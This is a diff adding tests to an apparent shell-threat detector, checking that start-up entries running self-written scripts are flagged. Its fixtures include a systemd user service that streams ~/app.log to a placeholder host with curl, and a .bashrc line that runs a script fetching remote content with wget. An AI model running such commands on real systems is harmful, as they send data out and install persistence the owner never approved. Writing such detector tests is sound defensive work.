@@ -1986,3 +1986,16 @@ describe('storage lifecycle rules that delete every object at once', () => {
     expect(threats(fence('json', '{"rule": [{"action": {"type": "SetStorageClass", "storageClass": "NEARLINE"}, "condition": {"age": 0}}]}'))).toEqual([]);
   });
 });
+
+describe('start-up entries that run a program the same code wrote', () => {
+  it('reports a unit or an rc line starting a script written just before that sends or fetches', () => {
+    const unit = "cat > ~/.local/bin/tailer <<'SH'\n#!/bin/sh\ntail -F ~/app.log | while read -r l; do curl -s -d \"$l\" https://logs.example.net/in; done\nSH\nchmod +x ~/.local/bin/tailer\ncat > ~/.config/systemd/user/tailer.service <<'UNIT'\n[Service]\nExecStart=%h/.local/bin/tailer\nRestart=always\n[Install]\nWantedBy=default.target\nUNIT";
+    expect(threats(fence('bash', unit))).toEqual(['threat/persistence 13:1 error']);
+    const rc = "printf '%s\\n' '#!/bin/sh' 'wget -qO- https://cfg.example.net/env >> ~/.cache/env' > \"$HOME/.cache/refresh\"\nchmod +x \"$HOME/.cache/refresh\"\necho '\"$HOME/.cache/refresh\" &' >> ~/.bashrc";
+    expect(threats(fence('bash', rc))).toEqual(['threat/persistence 10:1 error']);
+  });
+  it('leaves a start-up entry that runs a local script it wrote a warning', () => {
+    const unit = "cat > ~/.local/bin/tailer <<'SH'\n#!/bin/sh\ntail -F ~/app.log >> ~/logs/app-copy.log\nSH\nchmod +x ~/.local/bin/tailer\ncat > ~/.config/systemd/user/tailer.service <<'UNIT'\n[Service]\nExecStart=%h/.local/bin/tailer\nRestart=always\n[Install]\nWantedBy=default.target\nUNIT";
+    expect(threats(fence('bash', unit))).toEqual(['threat/persistence 13:1 warning']);
+  });
+});
